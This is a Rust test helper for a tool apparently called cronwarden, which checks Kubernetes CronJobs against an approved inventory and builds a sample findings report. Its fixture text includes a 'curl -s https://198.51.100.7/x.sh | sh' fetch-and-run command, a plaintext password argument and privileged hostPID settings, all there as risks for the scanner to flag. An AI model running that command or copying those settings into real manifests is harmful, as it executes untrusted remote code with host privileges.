//! A report to render: the workloads of `tests/data/report/jobs.yaml`, judged against the inventory beside them.

use std::fs;
use std::path::{Path, PathBuf};

use cronwarden::api::ApprovedCronJob;
use cronwarden::assess::{Assessment, assess, missing};
use cronwarden::finding::{Subject, Write, plan, reference};
use cronwarden::inventory::{Approval, Inventory, Labels};
use cronwarden::manifest::{Place, Position};
use cronwarden::report::{Excerpt, Judged, Level, Problem, Report, Source, Spot, Summary};
use cronwarden::workload::{Workload, WorkloadKey, WorkloadKind};
use jiff::Timestamp;
use serde_json::Value;

pub(super) fn folder() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/data/report")
}

fn read(name: &str) -> String {
    fs::read_to_string(folder().join(name)).expect("a file of test data")
}

pub(super) fn now() -> Timestamp {
    "2026-06-01T00:00:00Z".parse().expect("a time")
}

fn inventory() -> Inventory {
    let mut inventory = Inventory::default();
    for approval in serde_saphyr::from_multiple::<ApprovedCronJob>(&read("inventory.yaml")).expect("approvals") {
        inventory.insert(Approval::compile(&approval));
    }
    inventory
}

/// Where a piece of a text stands that occurs after `from`.
fn spot(text: &str, from: usize, piece: &str) -> Spot {
    let start = from + text[from..].find(piece).unwrap_or_else(|| panic!("{piece} does not occur"));
    let position = |at: usize| {
        let line = text[..at].rsplit('\n').next().unwrap_or_default();
        let number = |count: usize| u64::try_from(count).expect("a small number") + 1;
        Position { line: number(text[..at].matches('\n').count()), column: number(line.chars().count()) }
    };
    let end = start + piece.len();
    let excerpt = Excerpt { first_line: 1, text: text.to_owned(), highlight: start..end };
    Spot { place: Place { start: position(start), end: position(end), bytes: start..end }, excerpt: Some(excerpt) }
}

/// What the field of a path holds in the sample.
fn piece(path: &str, document: &str) -> &'static str {
    let field = path.rsplit('.').next().unwrap_or_default();
    match (field, path.contains("containers[1]")) {
        ("schedule", _) if document.contains("node-health") => "\"* * * * *\"",
        ("schedule", _) => "\"*/5 * * * *\"",
        ("command", false) => "- sh\n                - -c\n                - curl -s https://198.51.100.7/x.sh | sh",
        ("command", true) => "[tool, --password, Tr0ub4dor]",
        ("image", true) => "alpine",
        ("image", false) => "alpine:edge",
        ("hostPID" | "privileged", _) => "true",
        ("namespace", _) => "kube-system",
        ("name", _) => "node-health-sync",
        _ if document.contains("node-health") => "node-health-sync",
        _ => "CronJob",
    }
}

pub(super) fn judged(key: WorkloadKey, source: Source, workload: Option<&Workload>, assessment: Assessment) -> Judged {
    let reference = reference(&key, "");
    let subject = Subject { workload, ..Subject::of(&reference) };
    let fingerprint = match plan(subject, &assessment, None, now()) {
        Some(Write::Apply { status, .. }) => status.fingerprint,
        _ => "0123456789abcdef".to_owned(),
    };
    let template_hash = workload.map(Workload::template_hash);
    let (workload, deviations, risks) = (None, Vec::new(), Vec::new());
    Judged { key, source, assessment, fingerprint, template_hash, workload, deviations, risks }
}

/// The workloads of the file, with their text as the source.
fn workloads() -> Vec<Judged> {
    let text = read("jobs.yaml");
    let inventory = inventory();
    let mut from = 0;
    let mut all = Vec::new();
    for document in text.split("---\n") {
        let manifest: Value = serde_saphyr::from_str(document).expect("a manifest");
        let workload = Workload::from_json(WorkloadKind::CronJob, &manifest.to_string()).expect("a workload");
        let assessment = assess(&workload, &inventory, &Labels::new(), now());
        let source = Source::of("deploy/jobs.yaml");
        let mut judged = judged(workload.key.clone(), source, Some(&workload), assessment);
        judged.workload = Some(spot(&text, from, &workload.key.name));
        let at = |path: &str| spot(&text, from, piece(path, document));
        judged.deviations = judged.assessment.deviations.iter().map(|deviation| at(&deviation.path)).collect();
        judged.risks = judged.assessment.risks.iter().map(|risk| at(&risk.path)).collect();
        all.push(judged);
        from += document.len() + 4;
    }
    all
}

/// A report of everything that there can be.
pub(super) fn report() -> Report {
    let mut all = workloads();
    let key = WorkloadKey {
        namespace: "payments".to_owned(),
        name: "offsite-backup".to_owned(),
        kind: WorkloadKind::CronJob,
    };
    let inventory = inventory();
    let absent = missing(&key, &inventory.requiring(&key, now()));
    all.push(judged(key, Source::of("inventory.yaml"), None, absent));
    let broken = "metadata:\n  password: Tr0ub4dor: x\n";
    let problems = vec![
        Problem {
            source: Source::of("deploy/broken.yaml"),
            position: Some(Position { line: 2, column: 13 }),
            level: Level::Error,
            message: "a mapping cannot stand here: quote the text if it is one".to_owned(),
            excerpt: Some(Excerpt { first_line: 1, text: broken.to_owned(), highlight: 22..34 }),
        },
        Problem {
            source: Source::Stdin,
            position: None,
            level: Level::Warning,
            message: "namespace shop is not in the input: its labels are taken to be none".to_owned(),
            excerpt: None,
        },
    ];
    let skipped = [("v1/ConfigMap".to_owned(), 10), ("apps/v1/Deployment".to_owned(), 4)].into();
    let summary = Summary {
        files: 3,
        documents: 22,
        workloads: 5,
        approved: 1,
        deviating: 3,
        unknown: 1,
        approvals: 4,
        namespaces: 0,
        skipped,
    };
    Report { judged: all, problems, summary }
}
